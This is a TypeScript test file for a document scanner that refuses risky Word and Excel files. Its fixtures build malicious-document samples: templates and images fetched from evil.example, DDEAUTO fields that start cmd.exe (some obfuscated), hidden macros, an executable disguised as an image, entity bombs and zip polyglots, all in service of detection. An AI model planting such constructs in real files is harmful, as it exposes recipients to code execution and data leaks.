import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectDocument } from '#shared/adapters/inspect-document.ts';
import { linking, office, ole, SHEET, WORD, zip, zipOf } from '../builders/files.ts';

const inspect = (bytes: Uint8Array, type = WORD) => inspectDocument(bytes, type);

const PLAIN = office(WORD, { 'word/document.xml': '<w:document/>' });
const END = Buffer.from(PLAIN).lastIndexOf('PK\u0005\u0006');
const DIRECTORY = Buffer.from(PLAIN).readUInt32LE(END + 16);

/** Where the head of the last of its files is. */
const LAST = Buffer.from(PLAIN).indexOf('word/document.xml') - 30;

/** The container's files and its directory, as `zipOf` takes them. */
const FILES = PLAIN.subarray(0, DIRECTORY);
const entries = (): readonly Uint8Array[] => {
  const directory = Buffer.from(PLAIN.subarray(DIRECTORY, END));
  return directory
    .toString('latin1')
    .split('PK\u0001\u0002')
    .slice(1)
    .map((entry) => Buffer.from(`PK\u0001\u0002${entry}`, 'latin1'));
};
const SECRET = zip({ 'word/other.xml': '<b/>' });
const secretFile = SECRET.subarray(0, Buffer.from(SECRET).indexOf('PK\u0001\u0002'));

/** The container behind other bytes, its directory's offsets put right. */
const behind = (prefix: Uint8Array): Uint8Array =>
  zipOf(
    [prefix, FILES],
    entries().map((entry) => {
      const moved = Buffer.from(entry);
      moved.writeUInt32LE(moved.readUInt32LE(42) + prefix.length, 42);
      return moved;
    }),
  );

const holding = (file: Uint8Array) => office(SHEET, { 'xl/embeddings/b.xlsx': file });
const PROGRAM = office(SHEET, { 'xl/vbaProject.bin': 'x' });
/** The beginning of an ELF file for 64 bits. */
const EXECUTABLE = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)]);

const word = (xml: string) => office(WORD, { 'word/document.xml': `<w:document>${xml}</w:document>` });

const field = (...runs: readonly string[]) =>
  office(WORD, { 'word/document.xml': runs.map((run) => `<w:instrText>${run}</w:instrText>`).join('<w:r/>') });

describe('an office file', () => {
  it.each([
    ['with a link that is followed on a click', linking('hyperlink', 'https://example.org')],
    ['made of a template on its own machine', linking('attachedTemplate', 'file:///C:\\Users\\x\\Normal.dotm')],
    ['with a field that counts pages', field(' NUMPAGES ')],
    ['with an object of another program', office(WORD, { 'word/embeddings/oleObject1.bin': ole('Equation Native') })],
    ['whose files lie one behind the other', zipOf([FILES], entries())],
  ])('%s is taken', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual({ kind: 'clean', type: WORD });
  });

  it('with the numbers of a chart, which are a workbook in it, is taken', async () => {
    expect((await inspect(office(WORD, { 'word/embeddings/a.xlsx': office(SHEET) }))).kind).toBe('clean');
    const pivots = office(SHEET, { 'xl/pivot.xml': '<pivotCacheDefinition refreshOnLoad="1"/>' });
    expect((await inspect(pivots, SHEET)).kind).toBe('clean');
  });

  it('with values of another workbook is taken', async () => {
    const bytes = office(SHEET, { 'xl/connections.xml': '<connections><connection id="1"/></connections>' });
    expect((await inspect(bytes, SHEET)).kind).toBe('clean');
  });

  it.each([
    ['fetchesContent', 'a template from the web', linking('attachedTemplate', 'https://evil.example/t.dotm')],
    ['fetchesContent', 'a template from a share', linking('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
    ['fetchesContent', 'a picture from a share', linking('image', '\\\\evil.example\\x.png')],
    ['fetchesContent', 'a picture from the web', linking('image', 'http://evil.example/x.png', "'")],
    ['fetchesContent', 'an object whose address is disguised', linking('oleObject', '&#x68;ttps://evil.example/x!')],
    ['activeContent', 'a page in a foreign format', linking('aFChunk', 'a.htm')],
    ['activeContent', 'a field that starts a program', field(' DDEAUTO c:\\cmd.exe ')],
    ['activeContent', 'the same in two runs', field(' DDEA', 'UTO c:\\cmd.exe ')],
    ['activeContent', 'the same under a prefix of its own', word('<x-y:instrText> DDE cmd </x-y:instrText>')],
    ['activeContent', 'the same in an attribute', word("<w:fldSimple w:instr = 'DDEAUTO cmd'/>")],
    ['activeContent', 'the same with letters by their numbers', field(' &#x44;DE&#65;UTO cmd ')],
    ['activeContent', 'data of another program', word('<x-y:ddeLink ddeService="cmd"/>')],
    ['macros', 'a program under another name', office(WORD, { 'word/data.bin': ole('_VBA_PROJECT') })],
    ['macros', 'controls', office(WORD, { 'word/activeX/activeX1.xml': '<ax/>' })],
    ['archive', 'any file as an object', office(WORD, { 'word/embeddings/oleObject1.bin': ole('\u0001Ole10Native') })],
    ['archive', 'a file within a file within it', office(WORD, { 'word/embeddings/a.xlsx': holding(office(SHEET)) })],
    ['macros', 'a program in a file within it', office(WORD, { 'word/embeddings/a.xlsx': PROGRAM })],
    ['malware', 'a program for the machine', office(WORD, { 'word/media/image1.png': EXECUTABLE })],
    ['encrypted', 'a locked file inside', office(WORD, { 'word/embeddings/a.xlsx': ole('EncryptedPackage') })],
    ['bomb', 'entities', office(WORD, { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><a/>' })],
    [
      'bomb',
      'entities in another encoding',
      office(WORD, { 'word/document.xml': Buffer.from('\uFEFF<!DOCTYPE x [<!ENTITY a "b">]><a/>', 'utf16le') }),
    ],
    ['bomb', 'a file that is listed twice', zipOf([FILES], [...entries(), ...entries().slice(0, 1)])],
    ['polyglot', 'a file that its directory does not name', zipOf([FILES, secretFile], entries())],
    ['polyglot', 'a file before its first one', behind(secretFile)],
    ['archive', 'a few bytes before its first file', behind(Buffer.from('PK\u0003\u0004'))],
    [
      'polyglot',
      'a file that is packed in another way by its own head',
      Buffer.concat([PLAIN.subarray(0, LAST + 8), Buffer.from([0, 0]), PLAIN.subarray(LAST + 10)]),
    ],
    [
      'polyglot',
      'a file with two names',
      Buffer.from(Buffer.from(PLAIN).toString('latin1').replace('word/document.xml', 'word/dOcument.xml'), 'latin1'),
    ],
  ])('is refused as %s with %s', async (because, _, bytes) => {
    expect(await inspect(bytes)).toEqual({ kind: 'refused', because });
  });

  it.each([
    ['macros', 'macros of old Excel', { 'xl/macrosheets/sheet1.xml': '<m/>' }],
    [
      'activeContent',
      'data of another program',
      { 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>' },
    ],
    ['activeContent', 'a query at its opening', { 'xl/connections.xml': '<connection refreshOnLoad="1"/>' }],
    ['activeContent', 'the same in another part', { 'xl/c.xml': "<x:connection id='1' refreshOnLoad='true'/>" }],
  ])('of numbers is refused as %s with %s', async (because, _, parts) => {
    expect(await inspect(office(SHEET, parts), SHEET)).toEqual({ kind: 'refused', because });
  });

  it('gets a verdict however its bytes are changed', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(PLAIN.length - 1), fc.nat(255)), { maxLength: 8 }),
        fc.nat(PLAIN.length),
        async (changes, length) => {
          const bytes = Buffer.from(PLAIN).subarray(0, length);
          for (const [at, value] of changes) if (at < length) bytes[at] = value;
          expect((await inspect(bytes)).kind).toMatch(/clean|refused/);
        },
      ),
      { numRuns: 300 },
    );
  });
});
